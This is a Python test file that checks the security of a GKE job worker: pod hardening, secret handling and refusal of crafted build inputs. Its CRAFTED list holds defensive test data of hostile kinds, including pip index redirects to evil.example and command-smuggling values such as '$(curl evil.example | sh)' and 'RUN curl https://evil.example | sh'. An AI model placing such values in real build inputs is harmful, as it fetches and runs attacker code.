"""kinetic-gke's trust boundaries in the manifests it renders and the requests it makes (issue 45, findings 3, 6, 8
and 9), without a cluster: every pod it makes meets the Pod Security Standards' restricted profile, no environment
value but the kinetic wire names is written into a Job, the worker's own Prefect settings reach no pod, a Job's
Secret is never left behind or taken over, and a flow run cannot make the worker build from requirements or a base
image the caller could not have sent. The same on the real control plane: ``tests/gke/test_gke_cluster.py``
(``test_a_job_runs_in_a_namespace_that_enforces_the_restricted_profile`` and the tests after it).
"""

from __future__ import annotations

import asyncio
import copy
import json
import uuid
from typing import Any

import pytest
from prefect.client.schemas.objects import FlowRun, WorkPool

from kinetic_prefect.contract import Env
from kinetic_prefect.workers.gke import warm
from kinetic_prefect.workers.gke.configuration import KineticGKEJobConfiguration
from kinetic_prefect.workers.gke.deploy import worker_manifests
from kinetic_prefect.workers.gke.launcher import GKEJobLauncher
from kinetic_prefect.workers.gke.worker import KineticGKEWorker

pytestmark = pytest.mark.no_server

# ------------------------------------------------------------------------------------------------------------------
# The Pod Security Standards, "Restricted" profile (which includes "Baseline"), as the Kubernetes documentation
# states them: https://kubernetes.io/docs/concepts/security/pod-security-standards/ (the Baseline and Restricted
# tables; "containers" there means spec.containers, spec.initContainers and spec.ephemeralContainers).

BASELINE_CAPABILITIES = {
    "AUDIT_WRITE", "CHOWN", "DAC_OVERRIDE", "FOWNER", "FSETID", "KILL", "MKNOD", "NET_BIND_SERVICE", "SETFCAP",
    "SETGID", "SETPCAP", "SETUID", "SYS_CHROOT",
}  # fmt: skip
SAFE_SYSCTLS = {
    "kernel.shm_rmid_forced", "net.ipv4.ip_local_port_range", "net.ipv4.ip_unprivileged_port_start",
    "net.ipv4.tcp_syncookies", "net.ipv4.ping_group_range", "net.ipv4.ip_local_reserved_ports",
    "net.ipv4.tcp_keepalive_time", "net.ipv4.tcp_fin_timeout", "net.ipv4.tcp_keepalive_intvl",
    "net.ipv4.tcp_keepalive_probes",
}  # fmt: skip
RESTRICTED_VOLUME_TYPES = {
    "configMap", "csi", "downwardAPI", "emptyDir", "ephemeral", "persistentVolumeClaim", "projected", "secret",
}  # fmt: skip
SELINUX_TYPES = {None, "", "container_t", "container_init_t", "container_kvm_t", "container_engine_t"}


def restricted_violations(pod: dict[str, Any], annotations: dict[str, str] | None = None) -> list[str]:
    """Every control of the Baseline and Restricted tables that ``pod`` (a PodSpec as JSON) breaks, named as the
    page names it; empty when the pod may run in a namespace labelled ``pod-security.kubernetes.io/enforce:
    restricted``."""
    found: list[str] = []
    context = pod.get("securityContext") or {}
    containers = [*(pod.get("containers") or []), *(pod.get("initContainers") or [])]
    containers += pod.get("ephemeralContainers") or []
    contexts = [c.get("securityContext") or {} for c in containers]
    # Baseline
    if (context.get("windowsOptions") or {}).get("hostProcess") or any(
        (c.get("windowsOptions") or {}).get("hostProcess") for c in contexts
    ):
        found.append("HostProcess")
    if any(pod.get(field) for field in ("hostNetwork", "hostPID", "hostIPC")):
        found.append("Host Namespaces")
    if any(c.get("privileged") for c in contexts):
        found.append("Privileged Containers")
    if any(set((c.get("capabilities") or {}).get("add") or []) - BASELINE_CAPABILITIES for c in contexts):
        found.append("Capabilities (baseline)")
    if any("hostPath" in v for v in pod.get("volumes") or []):
        found.append("HostPath Volumes")
    if any(p.get("hostPort") for c in containers for p in c.get("ports") or []):
        found.append("Host Ports")
    apparmor = [context.get("appArmorProfile") or {}, *(c.get("appArmorProfile") or {} for c in contexts)]
    if any(a.get("type") not in (None, "RuntimeDefault", "Localhost") for a in apparmor) or any(
        key.startswith("container.apparmor.security.beta.kubernetes.io/")
        and not value.startswith(("runtime/", "localhost/"))
        for key, value in (annotations or {}).items()
    ):
        found.append("AppArmor")
    selinux = [context.get("seLinuxOptions") or {}, *(c.get("seLinuxOptions") or {} for c in contexts)]
    if any(s.get("type") not in SELINUX_TYPES or s.get("user") or s.get("role") for s in selinux):
        found.append("SELinux")
    if any(c.get("procMount") not in (None, "Default") for c in contexts):
        found.append("/proc Mount Type")
    seccomp = [context.get("seccompProfile") or {}, *(c.get("seccompProfile") or {} for c in contexts)]
    if any(s.get("type") == "Unconfined" for s in seccomp):
        found.append("Seccomp (baseline)")
    if any(s.get("name") not in SAFE_SYSCTLS for s in context.get("sysctls") or []):
        found.append("Sysctls")
    # Restricted
    if any(not (set(v) - {"name"}) <= RESTRICTED_VOLUME_TYPES for v in pod.get("volumes") or []):
        found.append("Volume Types")
    if any(c.get("allowPrivilegeEscalation") is not False for c in contexts):
        found.append("Privilege Escalation")
    pod_non_root = context.get("runAsNonRoot") is True
    if any(c.get("runAsNonRoot") is False for c in contexts) or not (
        pod_non_root or all(c.get("runAsNonRoot") is True for c in contexts)
    ):
        found.append("Running as Non-root")
    if context.get("runAsUser") == 0 or any(c.get("runAsUser") == 0 for c in contexts):
        found.append("Running as Non-root user")
    pod_seccomp = (context.get("seccompProfile") or {}).get("type")
    container_seccomp = [(c.get("seccompProfile") or {}).get("type") for c in contexts]
    if any(t not in (None, "RuntimeDefault", "Localhost") for t in container_seccomp) or not (
        pod_seccomp in ("RuntimeDefault", "Localhost")
        or all(t in ("RuntimeDefault", "Localhost") for t in container_seccomp)
    ):
        found.append("Seccomp")
    for c in contexts:
        capabilities = c.get("capabilities") or {}
        if "ALL" not in (capabilities.get("drop") or []) or set(capabilities.get("add") or []) - {"NET_BIND_SERVICE"}:
            found.append("Capabilities")
            break
    return found


# ------------------------------------------------------------------------------------------------------------------


def _configuration(accelerator: str = "l4", env: dict[str, str] | None = None, **variables) -> Any:
    return _prepared(accelerator, env, **variables)[0]


def _prepared(accelerator: str = "l4", env: dict[str, str] | None = None, **variables) -> tuple[Any, FlowRun]:
    template = KineticGKEWorker.get_default_base_job_template()
    values = {
        "accelerator": accelerator,
        "image": "us-docker.pkg.dev/p/r/kinetic:py311-gpu-0123456789abcdef",
        "store": "gs://bucket/kinetic",
        "env": {Env.RUN_ID: "run-1", Env.PAYLOAD_SHA256: "0" * 64, **(env or {})},
        **variables,
    }
    configuration = asyncio.run(KineticGKEJobConfiguration.from_template_and_values(template, values, client=None))
    flow_run = FlowRun(id=uuid.uuid4(), name="brave-otter-job1", flow_id=uuid.uuid4())
    pool = WorkPool(name="gke-pool", type="kinetic-gke", base_job_template=template)
    configuration.prepare_for_flow_run(flow_run, work_pool=pool, worker_name="in-process@host.example")
    return configuration, flow_run


def _pod(manifest: dict[str, Any]) -> tuple[dict[str, Any], dict[str, str]]:
    template = manifest["spec"]["template"]
    return template["spec"], (template.get("metadata") or {}).get("annotations") or {}


def _warm_pod() -> dict[str, Any]:
    configuration, flow_run = _prepared(keep_warm_seconds=60)
    warm.WarmPods(lambda _: None).prepare_new_pod(flow_run, configuration, floor=True)
    return configuration.job_manifest


def _slot_pod() -> dict[str, Any]:
    configuration = _configuration(env={Env.SWEEP_ID: "sweep-1"})
    warm.prepare_slot_pod(configuration)
    return configuration.job_manifest


RENDERED = {
    "single pod": lambda: _configuration("l4").job_manifest,
    "cpu pod": lambda: _configuration("cpu", shm_size="1Gi").job_manifest,
    "tpu pod": lambda: _configuration("tpu-v5litepod-1").job_manifest,
    "multi-host slice (Indexed Job)": lambda: _configuration("tpu-v5litepod-16").job_manifest,
    "group of cpu hosts": lambda: _configuration("cpu", hosts=3).job_manifest,
    "warm pod": _warm_pod,
    "slot pod": _slot_pod,
    "FUSE Data mounts": lambda: _configuration(gcs_fuse_mounts={"0123456789abcdef": "gs://data/set"}).job_manifest,
    "debug job": lambda: _configuration(env={Env.DEBUG: "1"}).job_manifest,
    "queued (Kueue)": lambda: _configuration("h100x8", queued_provisioning="dws").job_manifest,
}


def test_the_checker_finds_what_a_default_pod_breaks():
    """The profile check itself: a pod with no security settings (what kinetic-gke rendered before) breaks the
    restricted controls, and each baseline control is caught."""
    plain = {"containers": [{"name": "c", "image": "i"}]}
    assert restricted_violations(plain) == ["Privilege Escalation", "Running as Non-root", "Seccomp", "Capabilities"]
    worst = {
        "hostNetwork": True,
        "securityContext": {"runAsUser": 0, "sysctls": [{"name": "kernel.msgmax", "value": "1"}]},
        "volumes": [{"name": "h", "hostPath": {"path": "/"}}],
        "containers": [{"name": "c", "ports": [{"containerPort": 1, "hostPort": 1}],
                        "securityContext": {"privileged": True, "capabilities": {"add": ["SYS_ADMIN"]}}}],
    }  # fmt: skip
    assert {"Host Namespaces", "Privileged Containers", "Capabilities (baseline)", "HostPath Volumes", "Host Ports",
            "Sysctls", "Volume Types", "Running as Non-root user"} <= set(restricted_violations(worst))  # fmt: skip


@pytest.mark.parametrize("kind", list(RENDERED))
def test_every_pod_kinetic_gke_renders_meets_the_restricted_profile(kind):
    """Issue 45 finding 6: no job pod runs as root, may gain privileges, keeps a capability or runs unconfined, and
    none mounts a service-account token (a job never calls the Kubernetes API)."""
    pod, annotations = _pod(RENDERED[kind]())
    assert restricted_violations(pod, annotations) == []
    assert pod["automountServiceAccountToken"] is False
    assert pod["securityContext"]["runAsUser"] == 10001 and pod["securityContext"]["runAsGroup"] == 10001


def test_the_in_cluster_worker_meets_the_restricted_profile():
    [deployment] = [d for d in worker_manifests("p", namespace="ml", image="img:1") if d["kind"] == "Deployment"]
    pod, annotations = _pod(deployment)
    assert restricted_violations(pod, annotations) == []
    assert pod["securityContext"]["runAsUser"] == 10001, "the worker image's own user (docker/ Dockerfile)"


def test_a_pool_template_from_before_gets_the_restricted_settings_and_its_own_choices_are_kept():
    """A pool saved before these settings (its template has none) renders them; a pool's explicit setting wins."""
    old = KineticGKEWorker.get_default_base_job_template()
    pod_template = old["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]
    del pod_template["securityContext"], pod_template["automountServiceAccountToken"]
    del pod_template["containers"][0]["securityContext"]
    configuration = asyncio.run(
        KineticGKEJobConfiguration.from_template_and_values(old, {"accelerator": "l4", "image": "i:1"}, client=None)
    )
    configuration.prepare_for_flow_run(FlowRun(id=uuid.uuid4(), name="x", flow_id=uuid.uuid4()))
    pod, _ = _pod(configuration.job_manifest)
    assert restricted_violations(pod) == [] and pod["automountServiceAccountToken"] is False
    chosen = KineticGKEWorker.get_default_base_job_template()
    chosen["job_configuration"]["job_manifest"]["spec"]["template"]["spec"]["securityContext"]["runAsUser"] = 2000
    configuration = asyncio.run(
        KineticGKEJobConfiguration.from_template_and_values(chosen, {"accelerator": "l4", "image": "i:1"}, client=None)
    )
    configuration.prepare_for_flow_run(FlowRun(id=uuid.uuid4(), name="x", flow_id=uuid.uuid4()))
    assert _pod(configuration.job_manifest)[0]["securityContext"]["runAsUser"] == 2000


# ------------------------------------------------------------------------------------------------------------------
# Finding 8 (and 3's GKE part): what a Job manifest holds.

POOL_SECRETS = {"HF_TOKEN": "hf_pool_token_0123456789", "WANDB_API_KEY": "wandb-pool-key-0123456789"}
WORKER_SECRETS = {
    "PREFECT_API_KEY": "pnu_worker_api_key_0123456789",
    "PREFECT_API_DATABASE_CONNECTION_URL": "postgresql+asyncpg://prefect:db-password-0123@db:5432/prefect",
    "PREFECT_SERVER_API_AUTH_STRING": "admin:server-auth-0123456789",
    "PREFECT_API_AUTH_STRING": "admin:client-auth-0123456789",
}


class FakeCore:
    """CoreV1Api's calls `_create_job` makes, recorded; ``fail_secret``: the status its Secret create answers."""

    def __init__(self, fail_secret: int | None = None):
        self.secrets: list[dict] = []
        self.patched: list[str] = []
        self.fail_secret = fail_secret

    def create_namespaced_secret(self, namespace, body):
        from kubernetes.client.exceptions import ApiException

        if self.fail_secret:
            raise ApiException(status=self.fail_secret, reason="refused")
        self.secrets.append(copy.deepcopy(body))

    def patch_namespaced_secret(self, name, namespace, body):  # the worker's Role no longer allows it
        self.patched.append(name)

    def create_namespaced_service(self, namespace, body):
        pass


class FakeBatch:
    """BatchV1Api's calls `_create_job` makes, recorded; ``fail_job``: the status its Job create answers."""

    def __init__(self, fail_job: int | None = None):
        self.jobs: list[dict] = []
        self.patches: list[dict] = []
        self.deleted: list[str] = []
        self.fail_job = fail_job

    def create_namespaced_job(self, namespace, body):
        from types import SimpleNamespace

        from kubernetes.client.exceptions import ApiException

        if self.fail_job:
            raise ApiException(status=self.fail_job, reason="refused")
        self.jobs.append(copy.deepcopy(body))
        labels = body["metadata"]["labels"]
        return SimpleNamespace(metadata=SimpleNamespace(name=body["metadata"]["name"], uid="job-uid", labels=labels))

    def patch_namespaced_job(self, name, namespace, body):
        self.patches.append(body)

    def delete_namespaced_job(self, name, namespace, propagation_policy=None):
        self.deleted.append(name)


def _create(configuration, core: FakeCore, batch: FakeBatch, monkeypatch) -> str:
    from kubernetes import client

    monkeypatch.setattr(client, "CoreV1Api", lambda api: core)
    monkeypatch.setattr(client, "BatchV1Api", lambda api: batch)
    return GKEJobLauncher._create_job(None, configuration)


def test_no_env_value_and_none_of_the_workers_prefect_settings_is_written_into_the_job(monkeypatch):
    """Issue 45 finding 8: the pool's HF_TOKEN and WANDB_API_KEY reach the container through the Job's Secret only;
    the worker's Prefect API key, auth strings and database URL reach the pod not at all (finding 3)."""
    from prefect.settings import (
        PREFECT_API_AUTH_STRING,
        PREFECT_API_DATABASE_CONNECTION_URL,
        PREFECT_API_KEY,
        PREFECT_SERVER_API_AUTH_STRING,
        temporary_settings,
    )

    worker = {
        PREFECT_API_KEY: WORKER_SECRETS["PREFECT_API_KEY"],
        PREFECT_API_DATABASE_CONNECTION_URL: WORKER_SECRETS["PREFECT_API_DATABASE_CONNECTION_URL"],
        PREFECT_SERVER_API_AUTH_STRING: WORKER_SECRETS["PREFECT_SERVER_API_AUTH_STRING"],
        PREFECT_API_AUTH_STRING: WORKER_SECRETS["PREFECT_API_AUTH_STRING"],
    }
    with temporary_settings(updates=worker):
        configuration = _configuration(env=POOL_SECRETS)
    core, batch = FakeCore(), FakeBatch()
    name = _create(configuration, core, batch, monkeypatch)
    [job] = batch.jobs
    text = json.dumps(job)
    for value in [*POOL_SECRETS.values(), *WORKER_SECRETS.values(), "db-password-0123"]:
        assert value not in text, f"{value} is written into the Job"
    container = job["spec"]["template"]["spec"]["containers"][0]
    names = {e["name"] for e in container["env"]}
    assert not names & {*POOL_SECRETS, *WORKER_SECRETS, "JAX_PLATFORMS"}, names
    assert names >= {Env.RUN_ID, Env.STORE, Env.ACCELERATOR, Env.PAYLOAD_SHA256}, "the wire names stay plain"
    [secret] = core.secrets
    assert container["envFrom"] == [{"secretRef": {"name": secret["metadata"]["name"]}}]
    assert {k: secret["stringData"][k] for k in POOL_SECRETS} == POOL_SECRETS, "HF_TOKEN reaches the pod"
    assert not set(secret["stringData"]) & set(WORKER_SECRETS), "the worker's own settings reach no pod"
    assert secret["metadata"]["ownerReferences"][0]["uid"] == "job-uid", "owned by its Job from its creation"
    assert job["spec"]["suspend"] is True and batch.patches == [{"spec": {"suspend": False}}], (
        "created suspended, resumed once its Secret exists"
    )
    assert name == job["metadata"]["name"] and batch.deleted == []
    assert core.patched == [], "the worker only creates Secrets (its Role allows nothing else)"


def test_the_calls_forwarded_env_wins_over_the_pools_and_a_relaunch_moves_it_again():
    configuration, flow_run = _prepared(env={"HF_TOKEN": "pool"})
    configuration.set_secret_env({"HF_TOKEN": "call", "OTHER": "x"})  # env= of the call (in-process)
    assert configuration.secret_env["HF_TOKEN"] == "call" and configuration.secret_env["OTHER"] == "x"
    from kinetic_prefect import accelerators

    configuration.env["JAX_PLATFORMS"] = "tpu"  # what a relaunch on another accelerator sets
    configuration.job_manifest = configuration.render_manifest(accelerators.resolve("tpu-v5litepod-1"), flow_run, 2)
    assert configuration.secret_env["JAX_PLATFORMS"] == "tpu" and "tpu" not in json.dumps(
        configuration.job_manifest["spec"]["template"]["spec"]["containers"][0]["env"]
    )


# ------------------------------------------------------------------------------------------------------------------
# Finding 9: the Job's Secret is never orphaned, and never someone else's.


def test_a_job_that_cannot_be_created_leaves_no_secret(monkeypatch):
    from kubernetes.client.exceptions import ApiException

    configuration = _configuration(env=POOL_SECRETS)
    configuration.set_secret_env({"CALLERS_TOKEN": "forwarded"})  # env= of the call: always a Secret's
    core, batch = FakeCore(), FakeBatch(fail_job=403)
    with pytest.raises(ApiException):
        _create(configuration, core, batch, monkeypatch)
    assert core.secrets == [], "no Secret is made before its Job exists"


def test_a_secret_that_cannot_be_created_takes_its_job_with_it(monkeypatch):
    from kubernetes.client.exceptions import ApiException

    core, batch = FakeCore(fail_secret=403), FakeBatch()
    with pytest.raises(ApiException):
        _create(_configuration(env=POOL_SECRETS), core, batch, monkeypatch)
    [job] = batch.jobs
    assert batch.deleted == [job["metadata"]["name"]] and batch.patches == [], "never resumed; deleted"


def test_a_secret_someone_else_made_under_the_jobs_name_is_never_used(monkeypatch):
    """Someone who may create Secrets in the namespace makes ``<job>-env`` first (with LD_PRELOAD, say): the worker
    cannot read it, so it refuses to start the job instead of handing the pod their values."""
    from kinetic_prefect.workers.gke.launcher import SecretTaken

    core, batch = FakeCore(fail_secret=409), FakeBatch()
    with pytest.raises(SecretTaken, match="already exists .* not made for this job"):
        _create(_configuration(env=POOL_SECRETS), core, batch, monkeypatch)
    assert batch.deleted and batch.patches == []


# ------------------------------------------------------------------------------------------------------------------
# Finding 9: the worker re-checks what it would build from.

CRAFTED = [
    ("requirements", ["--index-url https://evil.example/simple"], "requirements"),
    ("requirements", ["-e git+https://evil.example/pkg#egg=pkg"], "requirements"),
    ("requirements", ["https://evil.example/pkg-1.0-py3-none-any.whl"], "requirements"),
    ("requirements", ["numpy\n--extra-index-url https://evil.example/simple"], "requirements"),
    ("requirements", ["numpy; $(curl evil.example | sh)"], "requirements"),
    ("requirements", ["numpy`curl evil.example`"], "requirements"),
    ("base_image", "python:3.12-slim\nRUN curl https://evil.example | sh", "base_image"),
    ("base_image", "evil.example/not-the-pools:1", "base_image"),
    ("python_version", "3.12-slim\nRUN curl https://evil.example | sh\n#", "python_version"),
]


@pytest.mark.parametrize("variable, value, named", CRAFTED, ids=[f"{v}-{i}" for i, (v, _, _) in enumerate(CRAFTED)])
def test_a_flow_run_cannot_make_the_worker_build_what_a_caller_could_not_send(monkeypatch, variable, value, named):
    """A flow run created over the API skips the caller's checks: the worker holds its requirements, base image and
    Python version to the same rule before it builds, and to the pool's own base image, and builds nothing."""
    from kinetic_prefect.shared import builders

    built: list = []
    monkeypatch.setattr(builders.DockerBuilder, "ensure", lambda self, spec, log=print: built.append(spec) or "x")
    template = KineticGKEWorker.get_default_base_job_template()
    template["variables"]["properties"]["base_image"]["default"] = "python:3.12-slim"  # the pool's own
    values = {"accelerator": "cpu", "image_builder": "docker", "image_repository": "127.0.0.1:5000/r", variable: value}
    configuration = asyncio.run(KineticGKEJobConfiguration.from_template_and_values(template, values, client=None))
    pool = WorkPool(name="gke-pool", type="kinetic-gke", base_job_template=template)
    configuration.prepare_for_flow_run(FlowRun(id=uuid.uuid4(), name="x", flow_id=uuid.uuid4()), work_pool=pool)
    with pytest.raises(ValueError, match=f"job variable {named}") as refused:
        GKEJobLauncher.ensure_image(configuration, print)
    assert "refusing to build" in str(refused.value)
    assert built == [], "nothing was built"


def test_what_a_caller_sends_is_still_built(monkeypatch):
    from kinetic_prefect.shared import builders
    from kinetic_prefect.shared.image import ImageSpec

    built: list = []
    monkeypatch.setattr(builders.DockerBuilder, "ensure", lambda self, spec, log=print: built.append(spec) or "img")
    spec = ImageSpec.create(["keras>=3.8", "jax[cpu]==0.4.35; python_version >= '3.10'"], family="cpu")
    template = KineticGKEWorker.get_default_base_job_template()
    values = {
        "accelerator": "cpu",
        "image_builder": "docker",
        "image_repository": "127.0.0.1:5000/r",
        "requirements": list(spec.requirements),
        "python_version": spec.python,
        "base_image": "nvcr.io/nvidia/jax:24.04",
    }
    configuration = asyncio.run(KineticGKEJobConfiguration.from_template_and_values(template, values, client=None))
    configuration.prepare_for_flow_run(FlowRun(id=uuid.uuid4(), name="x", flow_id=uuid.uuid4()))
    assert GKEJobLauncher.ensure_image(configuration, print) == "img"
    assert built[0].requirements == spec.requirements and built[0].base_image == "nvcr.io/nvidia/jax:24.04"
